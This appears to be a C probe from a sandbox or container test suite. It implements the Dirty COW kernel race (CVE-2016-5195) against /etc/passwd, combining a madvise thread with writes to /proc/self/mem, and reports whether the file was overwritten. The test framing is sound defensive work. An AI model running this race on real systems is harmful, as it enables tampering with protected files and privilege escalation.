// attack: Races a write through /proc/self/mem against a private page (CVE-2016-5195).
// layer: the kernel's repair, where it has it
// second: none: jobs of an image share its page cache
#include <fcntl.h>
#include <pthread.h>
#include <stdint.h>
#include <sys/mman.h>

#include "attack.h"

static void *page;
static volatile int stop;

static void *drop(void *unused) {
    while (!stop) madvise(page, 4096, MADV_DONTNEED);
    return unused;
}

int main(void) {
    int file = open("/etc/passwd", O_RDONLY);
    char before[16] = {0}, after[16] = {0};
    if (file < 0 || pread(file, before, sizeof before, 0) < 8) return 1;
    page = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    int memory = open("/proc/self/mem", O_RDWR);
    if (page == MAP_FAILED || memory < 0) return 1;
    pthread_t thread;
    pthread_create(&thread, NULL, drop, NULL);
    for (int i = 0; i < 3000; i++) {
        if (pwrite(memory, "attack", 6, (off_t)(uintptr_t)page) < 0) continue;
    }
    stop = 1;
    pthread_join(thread, NULL);
    if (pread(file, after, sizeof after, 0) < 8) return 1;
    if (memcmp(before, after, sizeof before) != 0) fell("a file of the image was overwritten");
    return end();
}
